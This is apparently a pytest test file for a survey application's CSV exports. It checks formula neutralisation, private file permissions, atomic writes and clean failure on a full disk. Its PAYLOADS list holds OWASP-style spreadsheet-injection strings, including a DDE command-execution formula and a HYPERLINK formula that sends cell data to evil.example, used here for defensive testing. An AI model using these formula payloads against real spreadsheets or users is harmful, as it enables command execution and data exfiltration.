"""CSV files a person may open in a spreadsheet: formulas neutralised, mode 0600, atomic, a full disk handled.

Issue #10.8, #10.12b and the "export folder full" fault.
"""

from __future__ import annotations

import csv
import os
import stat
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, select

from analysis import tables as analysis_tables
from contracts.spreadsheet import neutralise_formula, recover_formula
from prem.db import db, transaction
from prem.fieldwork.export import write_table
from prem.fieldwork.models import Respondent
from prem.survey import operations
from prem.survey.models import Answer
from questionnaires import codebook, load_questionnaire

#: What a spreadsheet would run, from OWASP's CSV injection page and the issue.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
    "+46 70 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
HARMLESS = ["Bra vård", "'citat'", "1-2 gånger", "", "ärligt = bra"]


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as lines:
        return list(csv.reader(lines))


def _assert_neutralised(cells: list[str]) -> None:
    for cell in cells:
        assert not cell or cell[0] not in "=+-@\t\r", cell


@given(st.text())
def test_recovering_gives_back_exactly_the_original(value):
    assert recover_formula(neutralise_formula(value)) == value
    assert neutralise_formula(value)[:1] not in tuple("=+-@\t\r")


def test_write_table_neutralises_text_but_keeps_numbers(tmp_path):
    table = pd.DataFrame(
        {
            "text": pd.array(PAYLOADS + HARMLESS[:1], dtype="string"),
            "score": [-1.5] * (len(PAYLOADS) + 1),
            "count": pd.array([-3] * len(PAYLOADS) + [None], dtype="Int64"),
        }
    )
    path = write_table(table, tmp_path / "out.csv")
    rows = _cells(path)[1:]
    _assert_neutralised([row[0] for row in rows])
    assert [recover_formula(row[0]) for row in rows] == PAYLOADS + HARMLESS[:1]
    assert {row[1] for row in rows} == {"-1.5"} and [row[2] for row in rows] == ["-3"] * len(PAYLOADS) + [""]
    back = pd.read_csv(path)
    assert back["score"].dtype == "float64" and (back["score"] == -1.5).all()


@pytest.mark.parametrize("name", ["out.csv", "out.parquet"])
def test_exports_are_private_and_leave_no_partial_file(tmp_path, name):
    os.umask(0o022)
    path = write_table(pd.DataFrame({"text": ["a"]}), tmp_path / name)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]


def test_prem_export_freetext_neutralises_a_patients_formula(app, runner, make_round, tmp_path):
    make_round(size=2)
    q = load_questionnaire("prem-vardforlopp")
    with transaction(app, upgrade=False) as session:
        respondent = session.execute(select(Respondent).order_by(Respondent.respondent_id)).scalars().first()
        operations.save_answers(session, respondent, {"comments": PAYLOADS[0]}, q)
    out = tmp_path / "freetext.csv"
    result = runner(["export", "freetext", "--round", "vår-2026", "--out", str(out)])
    assert result.exit_code == 0, result.output
    header, *rows = _cells(out)
    assert [row[header.index("text")] for row in rows] == ["'" + PAYLOADS[0]]
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_codebook_csv_is_neutralised(tmp_path, monkeypatch):
    q = load_questionnaire("prem-vardforlopp")
    original = codebook.codebook_table(q)
    poisoned = original.copy()
    text_column = next(column for column in poisoned.columns if poisoned[column].map(type).eq(str).all())
    poisoned.loc[poisoned.index[0], text_column] = PAYLOADS[0]
    monkeypatch.setattr(codebook, "codebook_table", lambda _: poisoned)
    csv_path, *_ = codebook.write_codebook(q, tmp_path)
    header, *rows = _cells(csv_path)
    assert rows[0][header.index(text_column)] == "'" + PAYLOADS[0]
    _assert_neutralised([cell for row in rows for cell in row if not _is_number(cell)])


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_analysis_tables_csv_is_neutralised(tmp_path, monkeypatch):
    table = pd.DataFrame({"region": pd.array(PAYLOADS, dtype="string"), "estimate": [-1.5] * len(PAYLOADS)})

    class Results:
        def tables(self):
            return {"item_results": table}

    monkeypatch.setattr(analysis_tables, "data_dictionary", lambda tables: pd.DataFrame({"description": PAYLOADS}))
    written = analysis_tables.write_tables(Results(), tmp_path)
    for path in (p for p in written if p.suffix == ".csv"):
        rows = _cells(path)[1:]
        _assert_neutralised([row[0] for row in rows])
        assert [recover_formula(row[0]) for row in rows] == PAYLOADS
    assert {row[1] for row in _cells(tmp_path / "item_results.csv")[1:]} == {"-1.5"}


@pytest.fixture
def full_folder(tmp_path):
    """A 64 kB tmpfs: writes beyond it fail with ENOSPC (needs root and mount)."""
    folder = tmp_path / "small"
    folder.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(folder)], capture_output=True, text=True
    )
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs here ({mounted.stderr.strip()}); the full-disk test needs root")
    yield folder
    subprocess.run(["umount", str(folder)], check=True)


def test_a_full_export_folder_is_a_clear_error_with_no_partial_file(app, runner, make_round, full_folder):
    make_round(size=3)
    q = load_questionnaire("prem-vardforlopp")
    with transaction(app, upgrade=False) as session:
        for respondent in session.execute(select(Respondent)).scalars():
            operations.save_answers(session, respondent, {"comments": "lång kommentar " * 200}, q)
    with app.app_context():
        stored = db.session.execute(select(func.count()).select_from(Answer)).scalar_one()
    (full_folder / "filler").write_bytes(b"x" * 60_000)  # 15 of the 16 pages: the 9 kB export does not fit
    out = full_folder / "freetext.csv"
    result = runner(["export", "freetext", "--round", "vår-2026", "--out", str(out)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert f"{out}: could not be written (No space left on device)" in result.output
    assert sorted(p.name for p in full_folder.iterdir()) == ["filler"]
    with app.app_context():
        assert db.session.execute(select(func.count()).select_from(Answer)).scalar_one() == stored
